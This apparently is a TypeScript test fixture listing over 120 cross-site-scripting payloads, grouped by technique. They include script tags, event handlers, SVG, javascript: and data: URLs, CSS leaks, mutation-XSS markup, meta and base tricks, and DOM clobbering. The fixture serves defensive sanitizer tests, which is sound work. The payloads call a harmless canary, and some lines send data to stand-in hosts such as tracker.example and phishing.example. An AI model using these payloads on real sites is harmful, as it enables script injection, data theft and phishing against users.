/**
 * Hostile HTML for the browser tests of rendered article content (spec 3 §2: article and activity bodies are
 * HTML from the server). Nothing here is run by itself: a test puts each payload where server HTML is shown
 * and asserts that nothing ran and nothing leaked.
 *
 * The convention:
 * - `XSS_PAYLOADS[N]` contains the literal `__xss(N)`, with its own index and no other (xssPayloadIndex finds
 *   it), so a test can assert a payload is hostile and tell which one ran.
 * - Run in the page, an executable payload calls `__xss(N)` (the global `window.__xss`, which the test defines
 *   before injecting: `window.__xss = (n) => hits.push(n)`). Run in a same-origin frame (srcdoc, a javascript:
 *   URL), it calls `top.__xss(N)`. Run in an opaque-origin frame (a data: document), it cannot reach the page, so
 *   it posts the string `__xss(N)` to `top`: listen for `message` events whose data matches XSS_MESSAGE.
 * - Some payloads only run after a click, a hover or a scroll (links, form actions, handlers like onclick): a
 *   test that wants them to count has to click every link and button the rendering kept.
 * - DOM clobbering cannot run code; those payloads try to create `window.__xssCanary` / `document.__xssCanary`
 *   (XSS_CANARY) or to shadow document built-ins (getElementById, cookie, querySelector, body): after rendering,
 *   `'__xssCanary' in window` and `in document` must be false and `typeof document.getElementById` 'function'.
 *   They carry `__xss(N)` too (in a javascript: link or a handler), so every payload is recognisably hostile.
 * - Foreign URLs use the reserved .example domain. No payload covers the page (no fixed positioning), so what a
 *   rendering keeps can still be clicked; but a surviving <base> or <meta http-equiv="refresh"> changes the page's
 *   base URL or navigates it, so a test that renders them together should render those on their own page.
 */

/** The name the DOM-clobbering payloads try to define on window and document. */
export const XSS_CANARY = '__xssCanary';

/** The data of a `message` event a payload in an opaque-origin frame posts to top. */
export const XSS_MESSAGE = /^__xss\((\d+)\)$/;

type Payload = (n: number) => string;

/** A call in the page itself. */
const x = (n: number) => `__xss(${n})`;
/** A call from a same-origin frame. */
const up = (n: number) => `top.__xss(${n})`;
/** From an opaque-origin frame: a message to top (the page listens). */
const post = (n: number) => `top.postMessage('__xss(${n})','*')`;

const SCRIPT_TAGS: Payload[] = [
  (n) => `<script>${x(n)}</script>`,
  (n) => `<SCRIPT>${x(n)}</SCRIPT>`,
  (n) => `<ScRiPt>${x(n)}</sCrIpT>`,
  (n) => `<script type="text/javascript">${x(n)};</script>`,
  (n) => `<script type="module">${x(n)}</script>`,
  (n) => `<script src="data:text/javascript,${x(n)}"></script>`,
  (n) => `<script src="data:,${x(n)}"></script>`,
  (n) => `<script/x>${x(n)}</script>`,
  (n) => `<script>${x(n)}`,
  (n) => `<scr<script>ipt>${x(n)}</scr</script>ipt>`,
  (n) => `<<script>script>${x(n)}<</script>/script>`,
  (n) => `<script>setTimeout('${x(n)}')</script>`,
  (n) => `<script>document.write('<img src=x onerror=${x(n)}>')</script>`,
  (n) => `<p>正文<script>\n${x(n)}\n</script>继续</p>`,
  (n) => `<div><script defer>${x(n)}</script></div>`,
];

const EVENT_HANDLERS: Payload[] = [
  (n) => `<img src=x onerror=${x(n)}>`,
  (n) => `<img src="x" onerror="${x(n)}">`,
  (n) => `<IMG SRC=x oNeRrOr=${x(n)}>`,
  (n) => `<img/src=x/onerror=${x(n)}>`,
  (n) => `<img src onerror=${x(n)}>`,
  (n) => `<img src=x onerror="&#x77;indow.${x(n)}">`,
  (n) => `<img src="x:${x(n)}" onerror="eval(this.src.slice(2))">`,
  (n) => `<img srcset=",,," onerror=${x(n)}>`,
  (n) => `<image src=x onerror=${x(n)}>`,
  (n) => `<picture><source srcset=x><img src=x onerror=${x(n)}></picture>`,
  (n) => `<input type=image src=x onerror=${x(n)}>`,
  (n) => `<svg onload=${x(n)}>`,
  (n) => `<svg/onload=${x(n)}>`,
  (n) => `<body onload=${x(n)}>`,
  (n) => `<body onpageshow=${x(n)}>`,
  (n) => `<frameset onload=${x(n)}>`,
  (n) => `<details open ontoggle=${x(n)}>`,
  (n) => `<details ontoggle="${x(n)}" open><summary>展开</summary>内容</details>`,
  (n) => `<video src=x onerror=${x(n)}></video>`,
  (n) => `<video><source src=x onerror=${x(n)}></video>`,
  (n) => `<video src=x><track kind=captions src=x onerror=${x(n)}></video>`,
  (n) => `<audio src=x onerror=${x(n)}></audio>`,
  (n) => `<audio><source src=x onerror="${x(n)}"></audio>`,
  (n) => `<input autofocus onfocus=${x(n)}>`,
  (n) => `<input onblur=${x(n)} autofocus><input autofocus>`,
  (n) => `<select autofocus onfocus=${x(n)}><option>1</option></select>`,
  (n) => `<textarea autofocus onfocus=${x(n)}></textarea>`,
  (n) => `<button autofocus onfocus=${x(n)}>按钮</button>`,
  (n) => `<keygen autofocus onfocus=${x(n)}>`,
  (n) => `<div contenteditable autofocus onfocus=${x(n)}>编辑</div>`,
  (n) => `<div tabindex=0 autofocus onfocusin=${x(n)}>焦点</div>`,
  (n) => `<marquee onstart=${x(n)}>滚动公告</marquee>`,
  (n) => `<marquee loop=1 width=0 onfinish=${x(n)}>x</marquee>`,
  (n) => `<iframe onload=${x(n)}></iframe>`,
  (n) => `<object data=x onerror=${x(n)}></object>`,
  (n) => `<embed src=x onload=${x(n)}>`,
  (n) => `<style onload=${x(n)}></style>`,
  (n) => `<link rel=stylesheet href=x onerror=${x(n)}>`,
  (n) => `<a onmouseover=${x(n)}>悬停</a>`,
  (n) => `<a href="#" onclick="${x(n)};return false">点击</a>`,
  (n) => `<div onpointerenter=${x(n)}>指针进入</div>`,
  (n) => `<p onmouseenter="${x(n)}">鼠标进入</p>`,
  (n) => `<form onsubmit=${x(n)}><button>提交</button></form>`,
  (n) => `<xss onclick=${x(n)}>自定义元素</xss>`,
  (n) => `<x-card tabindex=1 autofocus onfocus=${x(n)}>卡片</x-card>`,
  (n) => `<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="${x(n)}"></div>`,
  (n) => `<div style="transition:color 1ms" ontransitionend="${x(n)}" id=t>过渡</div>`,
  (n) => `<div style="overflow:auto;height:20px" onscroll=${x(n)}><div style="height:999px"></div></div>`,
  (n) => `<img src=x onerror=${x(n)}//`,
  (n) => `<img src=x onerror="${x(n)}"`,
  (n) => `<img """><script>${x(n)}</script>">`,
  (n) => `<img src=\`x\` onerror=${x(n)}>`,
  (n) => `<table><tr><td onmouseover="${x(n)}">单元格</td></tr></table>`,
  (n) => `<meter value=2 min=0 max=10 onmouseover=${x(n)}>2 of 10</meter>`,
  (n) => `<html onmouseover=${x(n)}>`,
];

const SVG: Payload[] = [
  (n) => `<svg><animate onbegin=${x(n)} attributeName=x dur=1s>`,
  (n) => `<svg><set onbegin="${x(n)}" attributeName=x to=1 dur=1s /></svg>`,
  (n) => `<svg><a><set attributeName="href" to="javascript:${x(n)}" /><text y="20">点我</text></a></svg>`,
  (n) =>
    `<svg><animate xlink:href="#a" attributeName="href" values="javascript:${x(n)}" /><a id="a"><text y="20">点我</text></a></svg>`,
  (n) => `<svg><a xlink:href="javascript:${x(n)}"><text y="20">点我</text></a></svg>`,
  (n) => `<svg><a href="javascript:${x(n)}"><rect width="100" height="100" /></a></svg>`,
  (n) => `<svg><foreignObject><img src=x onerror=${x(n)}></foreignObject></svg>`,
  (n) => `<svg><foreignObject><iframe srcdoc="<script>${up(n)}</script>"></iframe></foreignObject></svg>`,
  (n) =>
    `<svg><use href="data:image/svg+xml,<svg id='u' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${x(n)}'/></svg>#u" /></svg>`,
  (n) => `<svg><script>${x(n)}</script></svg>`,
  (n) => `<svg><script xlink:href="data:,${x(n)}"></script></svg>`,
  (n) => `<svg><image href=x onerror=${x(n)} /></svg>`,
  (n) => `<svg><discard onbegin=${x(n)} /></svg>`,
  (n) => `<svg><g onload="${x(n)}"><circle r="10" /></g></svg>`,
  (n) => `<svg><style>@import 'javascript:${x(n)}';</style></svg>`,
  (n) => `<svg xmlns="http://www.w3.org/2000/svg"><handler type="text/javascript">${x(n)}</handler></svg>`,
];

const JAVASCRIPT_URLS: Payload[] = [
  (n) => `<a href="javascript:${x(n)}">领取红包</a>`,
  (n) => `<a href="JaVaScRiPt:${x(n)}">大小写</a>`,
  (n) => `<a href="jav&#x09;ascript:${x(n)}">制表符实体</a>`,
  (n) => `<a href="jav&#x0A;ascript:${x(n)}">换行实体</a>`,
  (n) => `<a href="jav&#x0D;ascript:${x(n)}">回车实体</a>`,
  (n) => `<a href="java\tscript:${x(n)}">制表符</a>`,
  (n) => `<a href="java\nscript:${x(n)}">换行</a>`,
  (n) => `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${x(n)}">十进制实体</a>`,
  (n) => `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${x(n)}">十六进制实体</a>`,
  (n) => `<a href="&#0000106avascript:${x(n)}">补零实体</a>`,
  (n) => `<a href="javascript&colon;${x(n)}">命名实体</a>`,
  (n) => `<a href=" &#14;  javascript:${x(n)}">前导空白</a>`,
  (n) => `<a href="javascript://%0a${x(n)}">注释换行</a>`,
  (n) => `<a href="javascript:void(0)" onclick="${x(n)}">空链接</a>`,
  (n) => `<a href="vbscript:${x(n)}">VBScript</a>`,
  (n) => `<form action="javascript:${x(n)}"><input type=submit value=提交></form>`,
  (n) => `<form><button formaction="javascript:${x(n)}">提交</button></form>`,
  (n) => `<form><input type=image src=x formaction="javascript:${x(n)}"></form>`,
  (n) => `<iframe src="javascript:${up(n)}"></iframe>`,
  (n) => `<iframe src="JAVASCRIPT:${up(n)}"></iframe>`,
  (n) => `<object data="javascript:${up(n)}"></object>`,
  (n) => `<embed src="javascript:${x(n)}">`,
  (n) => `<base href="javascript:${x(n)}//"><a href="/phone/about">关于</a>`,
  (n) => `<meta http-equiv="refresh" content="0;url=javascript:${x(n)}">`,
  (n) => `<map name=m><area shape=rect coords=0,0,200,200 href="javascript:${x(n)}"></map><img usemap=#m src=x>`,
  (n) => `<math href="javascript:${x(n)}">数学</math>`,
  (n) => `<isindex action="javascript:${x(n)}" type=image>`,
  (n) => `<table background="javascript:${x(n)}"><tr><td>表格</td></tr></table>`,
];

const DATA_URLS: Payload[] = [
  (n) => `<iframe src="data:text/html,<script>${post(n)}</script>"></iframe>`,
  (n) => `<iframe src="data:text/html;charset=utf-8,<img src=x onerror=&quot;${post(n)}&quot;>"></iframe>`,
  (n) =>
    `<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=&quot;${post(n)}&quot;/>"></iframe>`,
  (n) => `<object data="data:text/html,<script>${post(n)}</script>"></object>`,
  (n) =>
    `<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${post(n)}</script></svg>"></object>`,
  (n) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=&quot;${post(n)}&quot;/>">`,
  (n) => `<a href="data:text/html,<script>${post(n)}</script>">打开</a>`,
  (n) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${x(n)}'/>">`,
];

const CSS: Payload[] = [
  (n) => `<div style="width: expression(${x(n)})">IE表达式</div>`,
  (n) => `<div style="x:exp/**/ression(${x(n)})">注释拆分</div>`,
  (n) => `<div style="x:\\65 xpression(${x(n)})">转义</div>`,
  (n) => `<div style="background:url(javascript:${x(n)})">背景</div>`,
  (n) => `<div style="background-image:url('javascript:${x(n)}')">背景</div>`,
  (n) => `<div style="behavior:url(data:text/x-component,<script>${x(n)}</script>)">behavior</div>`,
  (n) =>
    `<div style="-moz-binding:url('data:text/xml,<bindings xmlns=&quot;http://www.mozilla.org/xbl&quot;><binding id=&quot;b&quot;><implementation><constructor>${x(n)}</constructor></implementation></binding></bindings>#b')">XBL</div>`,
  (n) => `<style>@import 'javascript:${x(n)}';</style>`,
  (n) => `<style>@import url("data:text/css,*{background:url(javascript:${x(n)})}");</style>`,
  (n) => `<style>body{background:url("javascript:${x(n)}")}</style>`,
  (n) => `<style>*{x:expression(${x(n)})}</style>`,
  (n) => `<style>li{list-style-image:url("javascript:${x(n)}")}</style><ul><li>列表</li></ul>`,
  (n) => `<link rel="stylesheet" href="javascript:${x(n)}">`,
  (n) => `<link rel="stylesheet" href="data:text/css,body{background:url(javascript:${x(n)})}">`,
  (n) => `<p style="background:url(http://tracker.example/pixel.gif?${x(n)})">追踪像素</p>`,
  (n) => `<style>input[value^="a"]{background:url(http://tracker.example/leak?${x(n)})}</style><input value="abc">`,
];

const BROKEN_MARKUP: Payload[] = [
  (n) => `<noscript><p title="</noscript><img src=x onerror=${x(n)}>"></noscript>`,
  (n) => `<noscript><img src=x onerror=${x(n)}></noscript>`,
  (n) => `<template><img src=x onerror=${x(n)}></template>`,
  (n) => `<template shadowrootmode="open"><img src=x onerror=${x(n)}></template>`,
  (n) => `<div><template shadowrootmode="open"><script>${x(n)}</script></template></div>`,
  (n) => `<style><img src=x onerror=${x(n)}></style>`,
  (n) => `<style></style><img src=x onerror=${x(n)}>`,
  (n) => `<svg></p><style><a id="</style><img src=1 onerror=${x(n)}>">`,
  (n) => `<svg><style><img src=x onerror=${x(n)}></style></svg>`,
  (n) => `<math><style><img src=x onerror=${x(n)}></style></math>`,
  (n) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${x(n)}&gt;">`,
  (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${x(n)}>`,
  (n) => `<math><mi><svg><style><img src=x onerror=${x(n)}></style></svg></mi></math>`,
  (n) => `<svg><p><style><img src=x onerror=${x(n)}></style></p></svg>`,
  (n) => `<select><template><style><img src=x onerror=${x(n)}></style></template></select>`,
  (n) => `<textarea></textarea><img src=x onerror=${x(n)}>`,
  (n) => `<textarea><img title="</textarea><img src=x onerror=${x(n)}>"></textarea>`,
  (n) => `<title><img title="</title><img src=x onerror=${x(n)}>"></title>`,
  (n) => `<xmp><img title="</xmp><img src=x onerror=${x(n)}>"></xmp>`,
  (n) => `<iframe><img title="</iframe><img src=x onerror=${x(n)}>"></iframe>`,
  (n) => `<noembed><img title="</noembed><img src=x onerror=${x(n)}>"></noembed>`,
  (n) => `<noframes><img title="</noframes><img src=x onerror=${x(n)}>"></noframes>`,
  (n) => `<plaintext><img src=x onerror=${x(n)}>`,
  (n) => `<!--<img src="--><img src=x onerror=${x(n)}//">`,
  (n) => `<!--><img src=x onerror=${x(n)}>-->`,
  (n) => `<!--!><img src=x onerror=${x(n)}>-->`,
  (n) => `<!----!><img src=x onerror=${x(n)}>-->`,
  (n) => `<? ><img src=x onerror=${x(n)}>?>`,
  (n) => `</ ><img src=x onerror=${x(n)}>`,
  (n) => `<![CDATA[><img src=x onerror=${x(n)}>]]>`,
  (n) => `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${x(n)}>"></svg>`,
  (n) => `<svg><![CDATA[</svg><img src=x onerror=${x(n)}>]]></svg>`,
  (n) => `<div id="</div><img src=x onerror=${x(n)}>"></div>`,
  (n) => `<a title="&lt;/a&gt;&lt;img src=x onerror=${x(n)}&gt;">引号里的标签</a>`,
  (n) => `<p>未闭合<b><i><img src=x onerror=${x(n)}`,
  (n) => `<table><caption><img src=x onerror=${x(n)}></table>`,
  (n) => `<table><td><form><img src=x onerror=${x(n)}></form></td></table>`,
];

const FRAMES_LINKS_META: Payload[] = [
  (n) => `<iframe srcdoc="<script>${up(n)}</script>"></iframe>`,
  (n) => `<iframe srcdoc="&lt;img src=x onerror=${up(n)}&gt;"></iframe>`,
  (n) => `<iframe srcdoc="<svg onload=${up(n)}>"></iframe>`,
  (n) => `<iframe srcdoc="<iframe srcdoc='<script>${up(n)}</script>'></iframe>"></iframe>`,
  (n) => `<iframe src="https://phishing.example/login?${x(n)}" width="300" height="200"></iframe>`,
  (n) => `<frame src="javascript:${up(n)}">`,
  (n) => `<link rel="import" href="data:text/html,<script>${x(n)}</script>">`,
  (n) => `<link rel="preload" as="script" href="data:,${x(n)}" onload="${x(n)}">`,
  (n) => `<link rel="modulepreload" href="data:text/javascript,${x(n)}">`,
  (n) => `<meta http-equiv="refresh" content="0; url=data:text/html,<script>${post(n)}</script>">`,
  (n) => `<meta http-equiv="refresh" content="0;url=https://phishing.example/?${x(n)}">`,
  (n) => `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"><script>${x(n)}</script>`,
  (n) => `<meta charset="UTF-7">+ADw-script+AD4-${x(n)}+ADw-/script+AD4-`,
  (n) => `<base href="https://phishing.example/"><img src="x.png?${x(n)}">`,
  (n) => `<portal src="javascript:${x(n)}"></portal>`,
];

const DOM_CLOBBERING: Payload[] = [
  (n) => `<a id="__xssCanary" href="javascript:${x(n)}">clobber</a>`,
  (n) => `<img name="__xssCanary" src="x" alt="${x(n)}">`,
  (n) => `<form name="__xssCanary" action="javascript:${x(n)}"><input name="attributes"></form>`,
  (n) => `<form id="__xssCanary"><input name="innerHTML" value="${x(n)}"><input name="action"></form>`,
  (n) => `<a id="__xssCanary"></a><a id="__xssCanary" name="href" href="javascript:${x(n)}">二级</a>`,
  (n) => `<embed name="__xssCanary" src="javascript:${x(n)}">`,
  (n) => `<object name="__xssCanary" data="javascript:${up(n)}"></object>`,
  (n) => `<iframe name="__xssCanary" srcdoc="<a id=x href='javascript:${up(n)}'>"></iframe>`,
  (n) => `<img name="getElementById" src="x" alt="${x(n)}">`,
  (n) => `<form name="querySelector"><input name="x" value="${x(n)}"></form>`,
  (n) => `<img name="cookie" src="x" alt="${x(n)}">`,
  (n) => `<img name="body" src="x" alt="${x(n)}">`,
  (n) => `<svg><a id="__xssCanary" href="javascript:${x(n)}"><text y="20">svg</text></a></svg>`,
];

const ALL: readonly Payload[] = [
  ...SCRIPT_TAGS,
  ...EVENT_HANDLERS,
  ...SVG,
  ...JAVASCRIPT_URLS,
  ...DATA_URLS,
  ...CSS,
  ...BROKEN_MARKUP,
  ...FRAMES_LINKS_META,
  ...DOM_CLOBBERING,
];

/** At least 120 distinct payloads; `XSS_PAYLOADS[N]` calls `__xss(N)` if it runs (see the header). */
export const XSS_PAYLOADS: readonly string[] = Object.freeze(ALL.map((payload, n) => payload(n)));

/** The index a payload carries (the N of its `__xss(N)`), or null when it carries none or several. */
export function xssPayloadIndex(payload: string): number | null {
  const found = new Set([...payload.matchAll(/__xss\((\d+)\)/g)].map((m) => Number(m[1])));
  return found.size === 1 ? [...found][0]! : null;
}
